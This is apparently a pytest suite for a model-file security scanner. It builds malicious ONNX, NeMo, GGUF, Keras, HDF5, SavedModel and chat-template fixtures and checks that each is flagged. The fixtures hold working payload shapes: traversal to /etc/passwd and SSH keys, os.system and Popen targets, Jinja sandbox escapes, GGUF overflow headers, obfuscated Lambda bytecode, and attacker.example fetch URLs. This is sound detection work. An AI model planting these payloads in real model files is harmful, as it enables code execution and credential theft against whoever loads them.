"""Red-team round on the formats beyond pickle: what the loaders act on that round one missed.

Each family is built with the real writers (`onnx`, `gguf`, tarfile, zipfile) and confirmed
against the loader's behaviour in the test's docstring; nothing is ever loaded.

- ONNX that onnxruntime refuses but `onnx.load` reads with its external data all the same
  (no `ir_version`, or one outside any runtime's range), with or without a `.onnx` name;
  onnxruntime's in-memory marker `*/_ORT_MEM_ADDR_/*` as a location (its `offset` is read as a
  pointer); an `EPContext` node whose cache or model file lies outside the directory.
- NeMo: `model_config.yaml` behind hundreds of other members (NeMo extracts them all).
- GGUF: a chat template padded past the analyser's limit.
- Keras: file-reading keys of lookup layers and keras_hub tokenizers (`vocabulary`, `merges`,
  `proto`) on any class, `IndexLookup` by its `keras.src` module; Keras-internal functions that
  read, write or download, named by `module` + `class_name: function` (a Lambda calls them
  with the config's `arguments`).
"""

from __future__ import annotations

import io
import json
import logging
import tarfile
import zipfile
from pathlib import Path

import pytest

from modelscan_core import scan_path
from modelscan_core.model import Severity

HIGH = Severity.HIGH


def top(path: Path) -> Severity | None:
    return max((f.severity for f in scan_path(path).findings()), default=None)


# -- ONNX -----------------------------------------------------------------------------------

onnx = pytest.importorskip("onnx")
from onnx import TensorProto, helper  # noqa: E402


def _ext(location: str) -> TensorProto:
    t = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "4096"), ("length", "16")):
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    return t


def _model(nodes=None, inits=(), domains=()):
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    nodes = nodes or [helper.make_node("Add", ["x", "w"], ["y"])]
    graph = helper.make_graph(nodes, "g", [x], [y], initializer=list(inits))
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)] + [helper.make_opsetid(d, 1) for d in domains])


@pytest.mark.parametrize("ir", [None, 0, 1000])
@pytest.mark.parametrize("name", ["model.onnx", "blob"])
def test_a_model_onnxruntime_refuses_is_still_read_as_onnx_load_reads_it(tmp_path, ir, name):
    m = _model(inits=[_ext("../../../etc/passwd")])
    if ir is None:
        m.ClearField("ir_version")
    else:
        m.ir_version = ir
    path = tmp_path / name
    path.write_bytes(m.SerializeToString())
    assert top(path) == HIGH


def test_onnxruntime_in_memory_marker_in_a_file_is_high(tmp_path):
    path = tmp_path / "m.onnx"
    onnx.save(_model(inits=[_ext("*/_ORT_MEM_ADDR_/*")]), path)
    found = scan_path(path).findings()
    assert [f.severity for f in found] == [HIGH] and "memory address" in found[0].description


def _ep_context(**attrs):
    node = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", source="QNNExecutionProvider", **attrs)
    return _model([node], domains=["com.microsoft"])


@pytest.mark.parametrize("attrs", [
    {"embed_mode": 0, "ep_cache_context": "../../../root/.ssh/id_rsa"},
    {"embed_mode": 0, "ep_cache_context": "/etc/passwd"},
    {"embed_mode": 1, "ep_cache_context": b"blob", "onnx_model_filename": "C:\\models\\x.onnx"},
])
def test_ep_context_files_outside_the_directory_are_high(tmp_path, attrs):
    path = tmp_path / "ctx.onnx"
    onnx.save(_ep_context(**attrs), path)
    assert top(path) == HIGH


@pytest.mark.parametrize("attrs", [
    {"embed_mode": 0, "ep_cache_context": "model_ctx_QNN.bin"},
    {"embed_mode": 1, "ep_cache_context": b"\x00\x01../../compiled bytes"},
])
def test_ep_context_with_a_sibling_or_embedded_cache_is_clean(tmp_path, attrs):
    path = tmp_path / "ctx.onnx"
    onnx.save(_ep_context(**attrs), path)
    assert scan_path(path).exit_code == 0


def test_other_protobufs_without_a_graph_are_not_claimed_as_onnx(tmp_path):
    from modelscan_core.scanners.onnx import sniff_onnx

    sentencepiece_like = b"\x0a\x05\x0a\x01a\x15\x00\x00\x00\x00" * 3 + b"\x12\x02\x08\x01"
    path = tmp_path / "tokenizer.model"
    path.write_bytes(sentencepiece_like)
    with open(path, "rb") as f:
        assert not sniff_onnx(sentencepiece_like, "tokenizer.model", f)


# -- NeMo -----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["padded.nemo", "blob"])
def test_a_nemo_config_behind_many_members_is_found(tmp_path, name):
    config = b"target: nemo.collections.asr.models.EncDecCTCModelBPE\nencoder:\n  _target_: os.system\n  command: id\n"
    path = tmp_path / name
    with tarfile.open(path, "w:") as tar:
        for i, (member, data) in enumerate([(f"./pad_{i}.txt", b"x") for i in range(400)] + [("./model_config.yaml", config)]):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    assert top(path) == Severity.CRITICAL


# -- GGUF -----------------------------------------------------------------------------------


def test_a_chat_template_padded_past_the_analysed_length_is_high(tmp_path):
    gguf = pytest.importorskip("gguf")
    from modelscan_core.scanners.gguf import MAX_TEMPLATE

    logging.getLogger("gguf").setLevel(logging.ERROR)
    path = tmp_path / "m.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_chat_template("{# " + "x" * MAX_TEMPLATE + " #}{{ cycler.__init__.__globals__.os.popen('id').read() }}")
    w.add_string("tokenizer.chat_template.tool_use", "{{ lipsum.__globals__ }}")  # read after it all the same
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    report = scan_path(path)
    rules = {f.rule_id for f in report.findings()}
    assert {"gguf/chat-template-oversized", "gguf/chat-template-attribute"} <= rules
    assert report.all_errors() and report.all_errors()[0].incomplete


# -- Keras ----------------------------------------------------------------------------------


def _keras(path: Path, layer: dict) -> Path:
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"name": "s", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"},
         "registered_name": None}, layer]}}
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        z.writestr("config.json", json.dumps(config))
    return path


@pytest.mark.parametrize("layer", [
    {"module": "keras.src.layers.preprocessing.index_lookup", "class_name": "IndexLookup",
     "config": {"name": "il", "vocabulary": "/etc/passwd", "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]"}},
    {"module": "keras_hub.tokenizers", "class_name": "WordPieceTokenizer", "config": {"name": "t", "vocabulary": "/etc/passwd"},
     "registered_name": "keras_hub>WordPieceTokenizer"},
    {"module": "keras_hub.tokenizers", "class_name": "BytePairTokenizer", "registered_name": "keras_hub>BytePairTokenizer",
     "config": {"name": "t", "vocabulary": None, "merges": "/root/.ssh/id_rsa"}},
    {"module": "keras_hub.tokenizers", "class_name": "SentencePieceTokenizer", "registered_name": "keras_hub>SentencePieceTokenizer",
     "config": {"name": "t", "proto": "https://attacker.example/spm.model"}},
    {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "arguments": {"origin": "https://attacker.example/x"},
     "function": {"module": "keras.src.utils.file_utils", "class_name": "function", "config": "extract_archive",
                  "registered_name": None}}},
    {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 4, "activation": {
        "module": "keras.src.utils.python_utils", "class_name": "function", "config": "func_load", "registered_name": None}}},
])
def test_keras_objects_that_read_files_or_reach_effect_functions_are_high(tmp_path, layer):
    assert top(_keras(tmp_path / "m.keras", layer)) >= HIGH


def test_keras_lookup_and_tokenizer_configs_as_keras_saves_them_are_clean(tmp_path):
    layers = [
        {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", "vocabulary": ["a", "b"]}},
        {"module": "keras_hub.tokenizers", "class_name": "WordPieceTokenizer", "config": {"name": "t", "vocabulary": None},
         "registered_name": "keras_hub>WordPieceTokenizer"},
        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 4, "activation": {
            "module": "keras.src.activations.activations", "class_name": "function", "config": "relu", "registered_name": None}}},
    ]
    for i, layer in enumerate(layers):
        assert scan_path(_keras(tmp_path / f"ok{i}.keras", layer)).exit_code == 0, layer


# -- Keras configs outside a .keras zip ----------------------------------------------------

_FOREIGN = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"name": "s", "layers": [
    {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {"name": "d", "units": 4,
     "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": None}}}]}}


@pytest.mark.parametrize("variant", ["directory", "padded", "escaped", "bom", "zip_without_metadata"])
def test_a_keras_config_stored_outside_a_keras_zip_is_walked(tmp_path, variant):
    """`keras.saving.load_model` reads a directory's config.json, keras_hub's `from_preset`
    deserializes every preset JSON, and a zip needs no metadata.json: key order, escapes
    and a BOM are the writer's choice."""
    text = json.dumps(_FOREIGN)
    path = tmp_path / "config.json"
    if variant == "directory":
        path.write_text(text)
        (tmp_path / "metadata.json").write_text('{"keras_version": "3.8.0"}')
        path = tmp_path
    elif variant == "padded":
        path.write_text(json.dumps({"pad": "x" * 100_000, **_FOREIGN}))
    elif variant == "escaped":
        path.write_text(text.replace('"class_name"', '"class\\u005fname"'))
    elif variant == "bom":
        path.write_bytes(b"\xef\xbb\xbf" + text.encode())
    else:
        path = tmp_path / "blob"
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("config.json", text)
    assert top(path) == Severity.CRITICAL


def test_json_that_is_not_a_keras_object_is_not_claimed(tmp_path):
    for i, doc in enumerate([{"architectures": ["LlamaForCausalLM"], "model_type": "llama"},
                             {"model": {"vocab": {"\u0120the": 1}}, "class_names": ["a"]},
                             [{"class_name": "Dense", "config": {}}]]):
        path = tmp_path / f"{i}.json"
        path.write_text(json.dumps(doc))
        report = scan_path(path)
        assert report.exit_code != 1 and not report.all_errors() and report.files[0].format == "unknown", doc


# -- NeMo 2: context/io.json (fiddle) -------------------------------------------------------


def _pyref(module: str, name: str) -> dict:
    return {"type": "pyref", "module": module, "name": name}


def _fiddle_context(fn: dict | None = None, value: dict | None = None, fn_by_ref: bool = False) -> dict:
    """A NeMo 2 `context/io.json` as fiddle's `dump_json` writes it: Buildables whose
    `fn_or_cls` sits in their traverser metadata, values as python references."""
    def config(key, fn_or_cls, items):
        return {key: {"type": _pyref("fiddle._src.config", "Config"), "metadata": {"type": "ref", "key": key + "_m"},
                      "items": [[f"Attr(name='{k}')", v] for k, v in items]},
                key + "_m": {"type": _pyref("fiddle._src.config", "BuildableTraverserMetadata"),
                             "items": [["Attr(name='fn_or_cls')", fn_or_cls]], "metadata": None}}

    objects = {}
    objects.update(config("llama_config_1", _pyref("nemo.collections.llm.gpt.model.llama", "Llama32Config1B"), [
        ("params_dtype", _pyref("torch", "bfloat16")), ("activation_func", value or _pyref("torch.nn.functional", "silu")),
        ("attn_mask_type", _pyref("megatron.core.transformer.enums", "AttnMaskType.causal"))]))
    objects.update(config("llama_model_1", _pyref("nemo.collections.llm.gpt.model.llama", "LlamaModel"),
                          [("config", {"type": "ref", "key": "llama_config_1"})]))
    if fn is not None:
        if fn_by_ref:
            objects["payload_ref"], fn = fn, {"type": "ref", "key": "payload_ref"}
        objects.update(config("payload_1", fn, [("args", "id")]))
    return {"root": {"type": "ref", "key": "llama_model_1"}, "objects": objects, "refcounts": {}, "version": "0.0.1"}


def test_a_nemo2_context_as_nemo_writes_it_is_clean(tmp_path):
    (tmp_path / "context").mkdir()
    path = tmp_path / "context" / "io.json"
    path.write_text(json.dumps(_fiddle_context(), indent=2))
    report = scan_path(tmp_path)
    assert report.exit_code == 0 and report.files[0].format == "nemo_context"


@pytest.mark.parametrize("doc, severity", [
    (_fiddle_context(_pyref("subprocess", "Popen")), Severity.CRITICAL),
    (_fiddle_context(_pyref("subprocess", "getoutput"), fn_by_ref=True), Severity.CRITICAL),
    (_fiddle_context(value=_pyref("os", "system")), Severity.CRITICAL),
    (_fiddle_context(_pyref("evil_pkg.payload", "Run")), HIGH),
])
def test_python_references_a_nemo2_context_calls_or_imports_are_judged(tmp_path, doc, severity):
    """`load_context` rebuilds the context with fiddle (`fdl.build`): every python reference is
    imported, and a Buildable's `fn_or_cls` is called (NeMo's SafePyrefPolicy came later)."""
    path = tmp_path / "io.json"
    path.write_text(json.dumps(doc).replace('"pyref"', '"py\\u0072ef"', 1))
    assert top(path) == severity


# -- TF SavedModel assets ---------------------------------------------------------------------


def _field(number: int, payload: bytes) -> bytes:
    def varint(n: int) -> bytes:
        out = b""
        while True:
            byte, n = n & 0x7F, n >> 7
            out += bytes([byte | (0x80 if n else 0)])
            if not n:
                return out

    return varint(number << 3 | 2) + varint(len(payload)) + payload


def _saved_model(filename: str, tf1: bool = False) -> bytes:
    """saved_model.pb with one asset (TF2: MetaGraphDef.asset_file_def; TF1: the AssetFileDef packed
    as an Any in the `saved_model_assets` collection), encoded field by field as TensorFlow does."""
    asset = _field(1, _field(1, b"Const:0")) + _field(2, filename.encode())  # tensor_info.name, filename
    if tf1:
        packed = _field(1, b"type.googleapis.com/tensorflow.AssetFileDef") + _field(2, asset)
        meta = _field(4, _field(1, b"saved_model_assets") + _field(2, _field(5, _field(1, packed))))
    else:
        meta = _field(6, asset)
    meta = _field(1, _field(1, b"serve")) + _field(2, _field(1, _field(1, b"Const") + _field(2, b"Const"))) + meta
    return b"\x08\x01" + _field(2, meta)


@pytest.mark.parametrize("filename, tf1, severity", [
    ("/etc/passwd", False, HIGH),
    ("../../../root/.ssh/id_rsa", False, HIGH),
    ("/etc/shadow", True, HIGH),
    ("vocab.txt", False, None),
    ("vocab.txt", True, None),
])
def test_savedmodel_assets_outside_the_assets_directory_are_high(tmp_path, filename, tf1, severity):
    """TensorFlow joins an asset's filename to `<export_dir>/assets` (an absolute one replaces it)
    and the graph reads the result: a vocabulary table, or a serving function returning it."""
    (tmp_path / "assets").mkdir()
    path = tmp_path / "saved_model.pb"
    path.write_bytes(_saved_model(filename, tf1))
    report = scan_path(path)
    assert top(path) == severity, report.findings()
    assert not report.all_errors()


# -- Hugging Face chat templates (tokenizer_config.json, chat_template.jinja) ------------------

_PUBLISHED = {k: v for k, v in json.loads((Path(__file__).parent / "data" / "chat_templates.json").read_text()).items()
              if not k.startswith("_")}


@pytest.mark.parametrize("name", sorted(_PUBLISHED)[:40:4])
def test_published_templates_in_a_tokenizer_config_are_clean(tmp_path, name):
    path = tmp_path / "tokenizer_config.json"
    path.write_text(json.dumps({"bos_token": "<s>", "chat_template": _PUBLISHED[name], "tokenizer_class": "LlamaTokenizer"}))
    report = scan_path(path)
    assert report.exit_code == 0 and report.files[0].format == "chat_template_json"


@pytest.mark.parametrize("file, content", [
    ("tokenizer_config.json", {"chat_template": "{{ x|attr('format')('{0.__class__}') }}"}),
    ("tokenizer_config.json", {"chat_template": [{"name": "default", "template": "{{ messages }}"},
                                                 {"name": "tool_use", "template": "{{ ''.__class__.__mro__ }}"}]}),
    ("chat_template.json", {"chat_template": "{% set f = '{0.__globals__}'.format %}{{ f(raise_exception) }}"}),
    ("chat_template.jinja", "{{ '{0.__class__.__init__.__globals__}'.format(cycler) }}"),
])
def test_sandbox_escapes_in_hugging_face_chat_templates_are_reported(tmp_path, file, content):
    """transformers renders these in Jinja's sandbox: the `str.format` escapes (CVE-2024-56326,
    CVE-2025-27516) are what reach Python there, and the analysis reports them."""
    path = tmp_path / file
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    assert top(path) == Severity.CRITICAL


def test_code_generators_jinja_files_are_not_chat_templates(tmp_path):
    path = tmp_path / "triton_mm.py.jinja"
    path.write_text("{{ kernel.__name__ }}")
    assert scan_path(path).files[0].format == "unknown"


def _nemo(path: Path, config: str) -> Path:
    with tarfile.open(path, "w:") as tar:
        data = config.encode()
        info = tarfile.TarInfo("./model_config.yaml")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return path


_ASR = "target: nemo.collections.asr.models.EncDecCTCModelBPE\nsample_rate: 16000\n"


@pytest.mark.parametrize("config, severity", [
    ('encoder: "${oc.create:{_target_: os.system, command: id}}"\n', Severity.CRITICAL),
    ("encoder: \"${oc.decode:'{_target_: subprocess.Popen, args: [id]}'}\"\n", Severity.CRITICAL),
    ('encoder: ${oc.create:${other}}\nother: "{_target_: os.system}"\n', Severity.CRITICAL),
    ('encoder: "${oc.create:{_target_: os.system, x: ${y}}}"\n', HIGH),
    ('encoder: "${oc.create:{_target_: torch.nn.SiLU}}"\nrate: ${sample_rate}\nhome: "${oc.env:HOME,/tmp}"\n', None),
])
def test_configs_omegaconf_creates_from_strings_are_walked(tmp_path, config, severity):
    """`oc.create` and `oc.decode` turn a string into a config when OmegaConf reads it; Hydra
    then instantiates the `_target_` it holds."""
    assert top(_nemo(tmp_path / "m.nemo", _ASR + config)) == severity


# -- HDF5 data kept in other files ------------------------------------------------------------


def _h5_with(path: Path, kind: str, source_dir: Path) -> Path:
    import h5py
    import numpy as np

    with h5py.File(path, "w") as f:
        vars_group = f.create_group("layers/dense/vars")
        if kind == "external_storage":
            vars_group.create_dataset("0", shape=(64,), dtype="u1", external=[("/etc/passwd", 0, 64)])
        elif kind == "relative_storage":
            vars_group.create_dataset("0", shape=(8,), dtype="u1", external=[("../../../root/.ssh/id_rsa", 0, 8)])
        elif kind == "external_link":
            vars_group["0"] = h5py.ExternalLink("/srv/other.h5", "/w")
        elif kind == "virtual":
            layout = h5py.VirtualLayout(shape=(4,), dtype="i8")
            layout[:] = h5py.VirtualSource(str(source_dir / "elsewhere.h5"), "w", shape=(4,))
            f.create_virtual_dataset("layers/dense/vars/0", layout)
        else:
            vars_group.create_dataset("0", data=np.arange(4.0))
            vars_group["alias"] = h5py.SoftLink("/layers/dense/vars/0")
    return path


@pytest.mark.parametrize("kind", ["external_storage", "relative_storage", "external_link", "virtual", "plain"])
def test_hdf5_weights_read_from_other_files_are_high(tmp_path, kind):
    """Keras reads every weight through h5py, and HDF5 follows external raw storage (any file,
    read as the array's bytes), external links and virtual dataset sources; Keras never writes
    them. Checked in a `load_weights` file and in a `.keras` zip's model.weights.h5."""
    weights = _h5_with(tmp_path / "model.weights.h5", kind, tmp_path)
    expected = None if kind == "plain" else HIGH
    assert top(weights) == expected
    archive = tmp_path / "m.keras"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        z.writestr("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "registered_name": None,
                                              "config": {"name": "s", "layers": []}}))
        z.write(weights, "model.weights.h5")
    assert top(archive) == expected


# -- GGUF values built to overflow llama.cpp's parser -------------------------------------------


def _gguf_header(tensors: int, kvs: int, body: bytes) -> bytes:
    import struct

    return b"GGUF" + struct.pack("<IQQ", 3, tensors, kvs) + body


def _gguf_overflows() -> dict[str, bytes]:
    import struct

    key = struct.pack("<Q", 7) + b"general"
    tensor = struct.pack("<Q", 1) + b"w"
    return {
        "tensor-count": _gguf_header(2**64 - 1, 0, b"\0" * 64),
        "kv-count": _gguf_header(0, 2**62, b"\0" * 64),
        "key-length": _gguf_header(0, 1, struct.pack("<Q", 2**64 - 1) + b"x" * 64),
        "string-length": _gguf_header(0, 1, key + struct.pack("<IQ", 8, 2**64 - 1) + b"x" * 64),
        "array-length": _gguf_header(0, 1, key + struct.pack("<IIQ", 9, 10, 2**61) + b"\0" * 64),
        "string-in-array": _gguf_header(0, 1, key + struct.pack("<IIQ", 9, 8, 2) + struct.pack("<Q", 1) + b"a"
                                        + struct.pack("<Q", 2**63) + b"b" * 64),
        "n-dims": _gguf_header(1, 0, tensor + struct.pack("<I", 9) + struct.pack("<Q", 1) * 9 + struct.pack("<IQ", 0, 0)),
        "elements": _gguf_header(1, 0, tensor + struct.pack("<I", 2) + struct.pack("<QQ", 2**40, 2**40)
                                 + struct.pack("<IQ", 0, 0)),
    }


@pytest.mark.parametrize("name", sorted(_gguf_overflows()))
def test_gguf_values_that_overflow_llama_cpp_are_high(tmp_path, name):
    """The GGUF parser heap overflows reported by Talos (CVE-2024-21825, 21836, 21802, 23496,
    23605): lengths and counts whose byte size wraps 64-bit arithmetic, more than ggml's four
    dimensions. Still an error (the file cannot be read), and HIGH."""
    path = tmp_path / "m.gguf"
    path.write_bytes(_gguf_overflows()[name])
    report = scan_path(path)
    assert top(path) == HIGH and report.all_errors()


def test_a_truncated_gguf_is_an_error_not_an_overflow(tmp_path):
    import struct

    body = struct.pack("<Q", 7) + b"general" + struct.pack("<IQ", 8, 4096) + b"x" * 100  # a download cut short
    path = tmp_path / "m.gguf"
    path.write_bytes(_gguf_header(0, 1, body))
    report = scan_path(path)
    assert top(path) is None and report.all_errors()


# -- ONNX in text form --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt, name", [("json", "m.json"), ("textproto", "m.textproto"), ("onnxtxt", "m.onnxtxt")])
@pytest.mark.parametrize("location, severity", [("../../../../etc/passwd", HIGH), ("weights.bin", None)])
def test_onnx_models_onnx_load_reads_as_text_are_checked(tmp_path, fmt, name, location, severity):
    """`onnx.load` picks its reader by extension (JSON, text proto, ONNX's textual syntax) and
    then loads external data as for the binary form."""
    path = tmp_path / name
    onnx.save(_model(inits=[_ext(location)]), path, format=fmt)
    report = scan_path(path)
    assert report.files[0].format.startswith("onnx_") and top(path) == severity


@pytest.mark.parametrize("location, severity", [("../../../etc/passwd", HIGH), (None, None)])
def test_a_tensor_file_is_read_as_onnx_test_data(tmp_path, location, severity):
    """ONNX test data sets keep inputs and outputs as TensorProto `.pb` files; `numpy_helper.to_array`
    loads their external data. Such files are recognised (not an unknown `.pb` error)."""
    import numpy as np
    from onnx import numpy_helper

    tensor = _ext(location) if location else numpy_helper.from_array(np.arange(300, dtype=np.float32).reshape(3, 100), "x")
    path = tmp_path / "input_0.pb"
    path.write_bytes(tensor.SerializeToString())
    report = scan_path(path)
    assert report.files[0].format == "onnx_tensor" and not report.all_errors() and top(path) == severity


# -- Keras Lambda bytecode that reaches the system without naming it ---------------------------


def _lambda_layer(fn) -> dict:
    import base64
    import marshal

    code = base64.b64encode(marshal.dumps(fn.__code__)).decode()
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
            "config": {"name": "lam", "function": {"class_name": "__lambda__", "config": {"code": code}}}}


@pytest.mark.parametrize("fn, severity", [
    (lambda x: inspect.getattr_static(sys.modules["".join(["o", "s"])], "".join(["sy", "stem"]))("id") or x,  # noqa: F821
     Severity.CRITICAL),
    (lambda x: operator.attrgetter("".join(["sy", "stem"]))(sys.modules["".join(["o", "s"])])("id"),  # noqa: F821
     Severity.CRITICAL),
    (lambda x: x.__class__.__mro__[-1], Severity.CRITICAL),
    (lambda x: keras.ops.sqrt(keras.ops.sum(keras.ops.square(x), axis=-1)), Severity.MEDIUM),  # noqa: F821
])
def test_lambda_bytecode_that_builds_module_and_attribute_names_is_critical(tmp_path, fn, severity):
    """Names built at run time hide `os.system`; the way to the module (`sys.modules`,
    `inspect.getattr_static`, `operator.attrgetter`, dunders) cannot be hidden. Never unmarshalled."""
    assert top(_keras(tmp_path / "m.keras", _lambda_layer(fn))) == severity


def test_a_template_nested_past_the_parser_stack_is_high(tmp_path):
    """Jinja2's parser recurses about a dozen frames per parenthesis: a loader with more stack left
    than the scanner renders what the scanner's parser gives up on."""
    import sys

    path = tmp_path / "tokenizer_config.json"
    levels = sys.getrecursionlimit() // 6  # past the parser whatever limit other tests left behind
    deep = "(" * levels + "x" + ")" * levels
    path.write_text(json.dumps({"chat_template": "{{ " + deep + " }}"}))
    report = scan_path(path)
    assert top(path) == HIGH and {f.rule_id for f in report.findings()} == {"hf/chat-template-too-deep"}


@pytest.mark.parametrize("template", [
    "{% set f = '{0.__cl' ~ 'ass__}'['format'] %}{{ f(messages) }}",
    "{% set f = 'x'['format_map'] %}{{ f }}",
    "{% set f = ['{0.'] | map(attribute='format') | first %}{{ f(messages) }}",
    "{% set f = ['x'] | map('attr', 'format') | first %}{{ f }}",
    "{% for g in ['x'] | groupby('format') %}{{ g.grouper }}{% endfor %}",
])
def test_str_format_taken_as_a_value_by_any_lookup_is_high(tmp_path, template):
    """The sandbox escape of CVE-2024-56326 needs `str.format` of a string the template chose, as
    a value: `x['format']` (getitem falls back to getattr), `map(attribute=...)`, `map('attr', ...)`
    and `groupby` reach it as well as `.format` does. A data key named "format" (JSON schemas
    of tools) stays clean: functionary's template reads `param["format"]`."""
    path = tmp_path / "tokenizer_config.json"
    path.write_text(json.dumps({"chat_template": template}))
    assert top(path) >= HIGH


_PBTXT = """saved_model_schema_version: 1
meta_graphs {
  graph_def {
    node { name: "Const" op: "Const" }
    library {
      function {
        signature { name: "__inference__traced_save_45" }
        node_def { name: "SaveV2" op: "SaveV2" }
        node_def { name: "MergeV2Checkpoints" op: "MergeV2Checkpoints" }
      }
      function {
        signature { name: "__inference_serve_12" }
        node_def { name: "Identity" op: "Identity" }
        %s
      }
    }
  }
  asset_file_def {
    tensor_info { name: "Const_1:0" dtype: DT_STRING tensor_shape { } }
    filename: "%s"
  }
}
"""


@pytest.mark.parametrize("extra, filename, severity", [
    ("", "vocab.txt", None),
    ("", "/etc/passwd", HIGH),
    ('node_def { name: "SaveV2_1" op: "SaveV2" }', "vocab.txt", HIGH),
])
def test_text_savedmodel_assets_and_saver_functions(tmp_path, extra, filename, severity):
    """saved_model.pbtxt is read like the binary form: asset filenames are judged, and checkpoint
    ops count only outside TensorFlow's own saver functions (the binary form already knew)."""
    path = tmp_path / "saved_model.pbtxt"
    path.write_text(_PBTXT % (extra, filename))
    assert top(path) == severity, scan_path(path).findings()
